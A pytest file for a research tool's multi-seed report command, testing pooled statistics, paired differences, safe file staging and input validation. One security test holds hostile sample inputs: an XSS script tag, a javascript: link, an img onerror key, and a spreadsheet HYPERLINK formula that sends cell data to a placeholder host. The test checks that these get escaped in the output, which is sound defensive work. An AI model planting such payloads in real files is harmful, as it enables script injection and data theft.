"""``mf report`` on several seeds: pooled mean (std), paired per-query differences, the ordering check,
the attention-on-noise table and the Fig. 8 plot."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
import warnings

import numpy as np
import pytest
from click.testing import CliRunner

from movingfashion.seam.cli import report
from movingfashion.seam.report import (
    _class_how,
    _ordering_words,
    combine,
    ordering,
    paired_differences,
    table4,
    write_report,
)
from schemas.errors import DataFormatError
from schemas.partials import host_tag
from tests.mf_cli import run_command

METHODS = ["max_confidence", "seam_no_nlb_g", "seam"]


def _results(seed: int, top1: dict[str, list[float]], hits: dict[str, list[float]], auc: float) -> dict:
    """A results.json as mf evaluate writes it: per-pool top-1 values and per-query hit rates."""
    methods = {}
    for m, pools in top1.items():
        row = {
            "top1": float(np.mean(pools)),
            "top1_std": float(np.std(pools, ddof=1)),  # the sample std, as mf evaluate writes it
            "top1_pools": pools,
            "top5": 1.0,
            "top5_std": 0.0,
            "top5_pools": [1.0] * len(pools),
            "queries": 4,
            "pools": len(pools),
        }
        methods[m] = {"10": {"all": row, "regular": row, "hard": row, "class:1": dict(row)}}
    curve = {"mean": [0.1] * 21, "std": [0.01] * 21, "videos": 4}
    return {
        "protocol": {
            "ks": [1, 5],
            "frames": [10],
            "main_frames": 10,
            "pools": 2,
            "pool_size": 4,
            "std": "sample",
            "seed": 0,
            "queries": 4,
            "gallery": 4,
            "corrupted_share": 0.35,
        },
        "chance": {"top1": 0.25, "top5": 1.0},
        "methods": methods,
        "names": {"max_confidence": "Max Confidence", "seam_no_nlb_g": "SEAM w/o NLB,g", "seam": "SEAM"},
        "per_query": {
            "videos": ["a", "b", "c", "d"],
            **{m: {"top1": h, "top5": [1.0] * 4} for m, h in hits.items()},
        },
        "attention": {"seam": {"percentiles": [5 * i for i in range(21)], "all": curve, "regular": curve}},
        "attention_noise": {
            "seam": {
                "frames": 40,
                "corrupted": 14,
                "mean_clean": 0.11,
                "mean_corrupted": 0.08,
                "auc": auc,
                "auc_within_tracklet": auc,
                "by_kind": {"blur": {"frames": 7, "mean": 0.07, "auc": auc + 0.05}},
            }
        },
        "qualitative": [],
        "dataset": "nowhere",
        "seed_note": seed,
    }


@pytest.fixture()
def two_seeds(tmp_path):
    a = _results(
        0,
        {"max_confidence": [0.2, 0.3], "seam_no_nlb_g": [0.5, 0.5], "seam": [0.8, 0.7]},
        {"max_confidence": [0, 0, 1, 0], "seam_no_nlb_g": [1, 0, 1, 0], "seam": [1, 1, 1, 0]},
        0.8,
    )
    b = _results(
        1,
        {"max_confidence": [0.25, 0.25], "seam_no_nlb_g": [0.45, 0.55], "seam": [0.75, 0.75]},
        {"max_confidence": [0, 1, 0, 0], "seam_no_nlb_g": [1, 1, 0, 0], "seam": [1, 1, 1, 0]},
        0.7,
    )
    paths = []
    for i, r in enumerate((a, b)):
        p = tmp_path / f"s{i}" / "results.json"
        p.parent.mkdir()
        p.write_text(json.dumps(r))
        paths.append(p)
    return (a, b), paths


def test_combine_pools_every_seed_and_pool_value(two_seeds):
    (a, b), _ = two_seeds
    c = combine([a, b])
    cell = c["methods"]["seam"]["10"]["all"]
    assert cell["top1"] == pytest.approx(np.mean([0.8, 0.7, 0.75, 0.75]))
    assert cell["top1_std"] == pytest.approx(np.std([0.8, 0.7, 0.75, 0.75], ddof=1))  # sample std
    assert cell["top1_seed_std"] == pytest.approx(0.0) and cell["top1_values"] == 4 and c["seeds"] == 2
    # groups without per-pool values pool the seeds' means
    assert c["methods"]["seam"]["10"]["class:1"]["top1"] == pytest.approx(0.75)
    assert combine([a])["seeds"] == 1 and combine([a])["methods"] == a["methods"]


def test_paired_differences_and_the_ordering(two_seeds):
    (a, b), _ = two_seeds
    diffs = {(d["a"], d["b"]): d for d in paired_differences([a, b])}
    d = diffs[("seam", "seam_no_nlb_g")]
    assert d["per_seed"] == [0.25, 0.25] and d["mean"] == pytest.approx(0.25) and d["seed_std"] == 0
    assert (d["wins"], d["losses"], d["queries"]) == (2, 0, 4)  # queries b and c, averaged over seeds
    d = diffs[("seam_no_nlb_g", "max_confidence")]
    assert d["per_seed"] == [0.25, 0.25]
    order = ordering(combine([a, b]), list(diffs.values()))
    assert [(o["a"], o["beyond_one_std"], o["paired_beyond_std"]) for o in order] == [
        ("seam", True, True),
        ("seam_no_nlb_g", True, True),
    ]
    # the same numbers with SEAM below its ablation: the ordering is reported as not holding
    worse = json.loads(json.dumps(a))
    worse["methods"]["seam"]["10"]["all"]["top1_pools"] = [0.4, 0.5]
    worse["methods"]["seam"]["10"]["all"]["top1"] = 0.45
    worse["per_query"]["seam"]["top1"] = [1, 0, 0, 0]
    order = ordering(combine([worse]), paired_differences([worse]))
    assert order[0]["a"] == "seam" and order[0]["beyond_one_std"] is False
    # one seed: no std over seeds, so the paired difference is not judged against one
    assert order[0]["paired_beyond_std"] is None and order[0]["paired_query_se"] > 0
    # one pool of one run: no std either, whatever the means
    single = json.loads(json.dumps(a))
    for cells in single["methods"].values():
        for row in cells["10"].values():
            row.update(top1_pools=[row["top1"]], pools=1, top1_std=0.0)
    order = ordering(combine([single]), paired_differences([single]))
    assert order and all(o["beyond_one_std"] is None and o["paired_beyond_std"] is None for o in order)
    assert "cannot be judged" in _ordering_words(order[0]) and "larger" not in _ordering_words(order[0])


def _dead_pid() -> int:
    done = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    )
    return int(done.stdout)


def test_report_cli_writes_tables_with_std_and_the_plots(two_seeds, tmp_path):
    _, paths = two_seeds
    # a run killed (SIGKILL) while it wrote a plot left its temporary file: the next run removes it
    # (one of a live writer stays)
    (tmp_path / "rep").mkdir()
    killed = tmp_path / "rep" / f".attention.png.{host_tag()}-{_dead_pid()}.88b26r6d.part"
    live = tmp_path / "rep" / f".table2.md.{host_tag()}-{os.getpid()}.cd34_y.part"
    for p in (killed, live):
        p.write_bytes(b"\x89PN")
    res = CliRunner().invoke(report, [str(p) for p in paths] + ["--out", str(tmp_path / "rep"), "--json"])
    assert res.exit_code == 0, res.output
    assert not killed.exists() and live.exists()
    live.unlink()
    out = json.loads(res.output)
    assert out["seeds"] == 2
    files = set(out["files"])
    assert {
        "table2.md",
        "paired.md",
        "ordering.md",
        "attention_noise.md",
        "attention.png",
        "report.md",
    } <= files
    table2 = (tmp_path / "rep" / "table2.md").read_text()
    assert "| SEAM | 0.75(0.041) |" in table2  # mean(sample std) over 2 seeds x 2 pools
    assert "mean(sample std) over 2 seeds x pools" in (tmp_path / "rep" / "report.md").read_text()
    noise = (tmp_path / "rep" / "attention_noise.md").read_text()
    assert "0.750(0.071)" in noise and "AUC blur" in noise  # AUCs 0.70, 0.80: sample std
    assert "holds beyond one std" in (tmp_path / "rep" / "ordering.md").read_text()
    assert (tmp_path / "rep" / "attention.png").read_bytes()[:4] == b"\x89PNG"
    assert "2 training seeds" in (tmp_path / "rep" / "report.md").read_text()


def _write(tmp_path, name: str, r: dict):
    p = tmp_path / name / "results.json"
    p.parent.mkdir()
    p.write_text(json.dumps(r))
    return p


def test_results_of_other_test_sets_or_pool_settings_are_not_pooled(two_seeds, tmp_path):
    (a, b), paths = two_seeds
    other = json.loads(json.dumps(b))
    other["per_query"]["videos"] = ["a", "b", "c", "x"]  # another test set, the same size
    fewer = json.loads(json.dumps(b))
    fewer["protocol"]["queries"] = 3
    fewer["per_query"] = {"videos": ["a", "b", "c"], **{m: {"top1": [0, 1, 0]} for m in METHODS}}
    bigger = json.loads(json.dumps(b))
    bigger["protocol"]["pool_size"] = 8
    for name, r, needle in [
        ("other", other, "different test sets"),
        ("fewer", fewer, "different test sets"),
        ("bigger", bigger, "different pool_size"),
    ]:
        bad = _write(tmp_path, name, r)
        with pytest.raises(DataFormatError, match=needle) as exc:
            write_report([paths[0], bad], tmp_path / f"rep-{name}")
        assert str(paths[0]) in str(exc.value) and str(bad) in str(exc.value)
    # the same videos in another order are matched by video
    shuffled = json.loads(json.dumps(b))
    order = [3, 2, 1, 0]
    shuffled["per_query"] = {
        "videos": [b["per_query"]["videos"][i] for i in order],
        **{m: {k: [v[i] for i in order] for k, v in b["per_query"][m].items()} for m in METHODS},
    }
    want = paired_differences([a, b])
    assert paired_differences([a, shuffled]) == want
    assert combine([a, shuffled])["runs"][1]["per_query"] == b["per_query"]


def test_table4_std_is_over_seeds_x_pools(two_seeds):
    (a, b), _ = two_seeds
    a, b = json.loads(json.dumps(a)), json.loads(json.dumps(b))
    for r, pools in ((a, [0.0, 1.0]), (b, [0.5, 0.5])):
        cell = r["methods"]["seam"]["10"]["class:1"]
        cell.update(top1=float(np.mean(pools)), top1_std=float(np.std(pools, ddof=1)), top1_pools=pools)
    pooled = combine([a, b])
    row = next(r for r in table4(pooled)[1] if r[0] == "Short Sl. Shirt")
    assert row[-1] == f"0.50({np.std([0.0, 1.0, 0.5, 0.5], ddof=1):.3f})"  # 0.408; the seeds' means agree
    how = "mean(sample std) over 2 seeds x pools"
    assert _class_how(pooled, how) == how
    for r in (a, b):  # results written before per-class pool values were kept
        del r["methods"]["seam"]["10"]["class:1"]["top1_pools"]
    assert "per class: std over the 2 seeds' means" in _class_how(combine([a, b]), how)


def test_paired_values_are_rounded_for_display_only_and_a_query_in_no_pool_is_left_out(two_seeds):
    (a, b), _ = two_seeds
    a, b = json.loads(json.dumps(a)), json.loads(json.dumps(b))
    for r in (a, b):
        r["per_query"]["seam"]["top1"] = [1 / 3, 1, 1, None]  # query d was in no pool
        r["per_query"]["seam_no_nlb_g"]["top1"] = [0, 0, 1, None]
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # numpy's "Mean of empty slice" included
        d = next(x for x in paired_differences([a, b]) if (x["a"], x["b"]) == ("seam", "seam_no_nlb_g"))
    assert d["per_seed"] == [pytest.approx((1 / 3 + 1) / 3, abs=1e-12)] * 2 and d["queries"] == 3
    assert d["wins"] == 2 and d["losses"] == 0


def test_one_results_file_given_twice_is_not_two_seeds(two_seeds, tmp_path, capsys):
    """The same file (as a path, its folder or a link) or a byte-for-byte copy would be pooled
    as two training seeds, halving every std's meaning: refused naming both, exit 2."""
    _, paths = two_seeds
    link = tmp_path / "link.json"
    link.symlink_to(paths[0])
    copy = _write(tmp_path, "copy", {})
    copy.write_bytes(paths[0].read_bytes())
    for again in (paths[0], paths[0].parent, link, copy):
        with pytest.raises(DataFormatError, match="given twice") as exc:
            write_report([paths[0], paths[1], again], tmp_path / "rep")
        assert str(again) in str(exc.value)
    code, _, err = run_command(report, [str(paths[0]), str(paths[0]), "--out", str(tmp_path / "rep")], capsys)
    assert code == 2 and "given twice" in err and len(err.strip().splitlines()) == 1
    assert not (tmp_path / "rep").exists()


def test_a_report_folder_inside_a_dataset_folder_is_refused(two_seeds, tmp_path, capsys):
    """As mf evaluate and mf train refuse: inside --dataset, or inside the dataset the results
    record; exit 2 naming --out, nothing written."""
    (a, _), paths = two_seeds
    ds = tmp_path / "ds"
    ds.mkdir()
    (ds / "test.json").write_text("{}")
    code, _, err = run_command(
        report, [str(paths[0]), "--dataset", str(ds), "--out", str(ds / "report")], capsys
    )
    assert code == 2 and "inside the dataset folder" in err and f"--out {ds / 'report'}" in err
    recorded = _write(tmp_path, "recorded", {**a, "dataset": str(ds)})
    code, _, err = run_command(report, [str(recorded), "--out", str(ds / "sub" / "report")], capsys)
    assert code == 2 and "inside the dataset folder" in err
    assert [p.name for p in ds.iterdir()] == ["test.json"]
    code, _, err = run_command(report, [str(recorded), "--out", str(tmp_path / "report")], capsys)
    assert code == 0, err


def test_attention_profiles_binned_otherwise_are_not_pooled(two_seeds):
    """Was a ragged-array ValueError: seeds whose profiles have other bins keep no pooled profile."""
    (a, b), _ = two_seeds
    coarse = json.loads(json.dumps(b))
    curve = {"mean": [0.1] * 11, "std": [0.01] * 11, "videos": 4}
    coarse["attention"]["seam"] = {"percentiles": [10 * i for i in range(11)], "all": curve}
    assert "seam" not in combine([a, coarse])["attention"]
    assert "seam" in combine([a, b])["attention"]


def test_the_qualitative_sheet_needs_its_dataset_and_shop_paths(two_seeds, tmp_path, monkeypatch):
    """Without a dataset folder it is not drawn from the working folder; without shop paths it is
    not drawn (was a zip(strict=True) error)."""
    from movingfashion.seam.report import plot_qualitative

    (a, _), _ = two_seeds
    q = {"video": "videos/x.mp4", "frames": [0, 1, 2], "top5": ["p1"], "top5_paths": [], "product_id": "p1"}
    no_paths = {**a, "qualitative": [q], "dataset": str(tmp_path)}
    assert plot_qualitative(no_paths, tmp_path / "q.png") is False
    monkeypatch.chdir(tmp_path)
    no_dataset = {**a, "qualitative": [{**q, "top5_paths": ["imgs/p1.jpg"]}]}
    del no_dataset["dataset"]
    assert plot_qualitative(no_dataset, tmp_path / "q.png") is False
    assert not (tmp_path / "q.png").exists()


def test_names_from_results_are_escaped_in_every_markdown_and_csv_file(two_seeds, tmp_path):
    """Was: the ordering and the chance line wrote method names and keys from results.json raw
    (security audit D3)."""
    (a, b), _ = two_seeds
    evil = "<script>alert(1)</script>](javascript:x)"
    formula = '=HYPERLINK("http://x.test/?"&A1,"open")'
    for r in (a, b):
        r["names"] = {**r["names"], "seam": evil, "max_confidence": formula, "seam_no_nlb_g": "@SUM(A1)"}
        r["chance"] = {**r["chance"], "<img onerror=x>": 0.5}
    paths = [_write(tmp_path, f"e{i}", r) for i, r in enumerate((a, b))]
    res = CliRunner().invoke(report, [str(p) for p in paths] + ["--out", str(tmp_path / "rep"), "--json"])
    assert res.exit_code == 0, res.output
    for f in json.loads(res.output)["files"]:
        if f.endswith(".md"):
            text = (tmp_path / "rep" / f).read_text()
            assert "<script>" not in text and "<img" not in text, f
            assert not re.search(r"(?<!\\)\]\(javascript:", text), f  # an escaped \]( is no link
        if f.endswith(".csv"):  # a spreadsheet shows the names as text, the numbers as numbers
            cells = [c for row in csv.reader((tmp_path / "rep" / f).open(newline="")) for c in row]
            assert "'" + formula in cells and "'@SUM(A1)" in cells and formula not in cells, f
            assert not [
                c for c in cells if c.startswith(tuple("=+-@\t\r")) and c != "-" and not c.startswith("'")
            ], f


def test_attention_bins_pool_every_frame_of_every_seed():
    """The band over seeds is the sample std of all their frames, not the mean of the seeds' stds."""
    from movingfashion.seam.report import pool_bins

    rng = np.random.default_rng(3)
    seeds = [rng.normal(0.08, 0.01, 7), rng.normal(0.12, 0.01, 5)]  # one bin, two seeds
    empty_and_one = [[], [0.3]]  # a second bin: no frame in the first seed, one in the second
    profiles = [
        {
            "mean": [float(x.mean()), float(np.mean(e)) if e else None],
            "std": [float(x.std(ddof=1)), (0.0 if len(e) == 1 else None) if e else None],
            "n": [len(x), len(e)],
            "videos": 3,
        }
        for x, e in zip(seeds, empty_and_one, strict=True)
    ]
    pooled = pool_bins(profiles)
    every = np.concatenate(seeds)
    assert pooled["mean"][0] == pytest.approx(every.mean())
    assert pooled["std"][0] == pytest.approx(every.std(ddof=1))
    assert pooled["std"][0] > max(p["std"][0] for p in profiles)  # the seeds' means differ
    assert pooled["n"] == [12, 1] and pooled["mean"][1] == pytest.approx(0.3) and pooled["std"][1] == 0.0


def _snapshot(folder) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def test_a_killed_report_never_leaves_a_mixed_set(two_seeds, tmp_path, monkeypatch):
    from movingfashion.seam import report as report_mod
    from schemas import staging

    _, paths = two_seeds
    rep, fresh = tmp_path / "rep", tmp_path / "fresh"
    write_report(paths[:1], rep)  # an earlier report (one seed) in --out
    (rep / "notes.txt").write_text("mine")  # not the report's: never touched
    before = _snapshot(rep)

    def killed(*a, **kw):
        raise RuntimeError("killed")

    with monkeypatch.context() as m:  # stopped after the tables, before the plots and report.md
        m.setattr(report_mod, "plot_attention", killed)
        with pytest.raises(RuntimeError):
            write_report(paths, rep)
    assert _snapshot(rep) == before and [p.name for p in rep.iterdir() if p.is_dir()] == []
    # stopped while swapping the files in: no report.md presents the mixed set
    with monkeypatch.context() as m:
        real, swap, moved = staging.os.replace, staging.swap_in, []

        def replace(src, dst):  # the first file moves in, then the run stops
            if moved:
                raise RuntimeError("killed")
            moved.append(dst)
            real(src, dst)

        def swap_in(*a):
            m.setattr(staging.os, "replace", replace)
            return swap(*a)

        m.setattr(staging, "swap_in", swap_in)
        with pytest.raises(RuntimeError):
            write_report(paths, rep)
    assert len(moved) == 1 and not (rep / "report.md").exists() and (rep / "notes.txt").read_text() == "mine"
    # a SIGKILLed run's staging folder: the rerun removes it (a live writer's stays)
    dead = rep / f".report.{host_tag()}-{_dead_pid()}.k1ll3d.part"
    live = rep / f".report.{host_tag()}-{os.getpid()}.l1v3.part"
    for d in (dead, live):
        d.mkdir()
        (d / "table2.md").write_text("half")
    out = write_report(paths, rep)
    write_report(paths, fresh)
    assert not dead.exists() and live.is_dir()
    shutil.rmtree(live)
    now = _snapshot(rep)
    assert now.pop("notes.txt") == b"mine"
    assert now == _snapshot(fresh) and set(now) == set(out["files"])
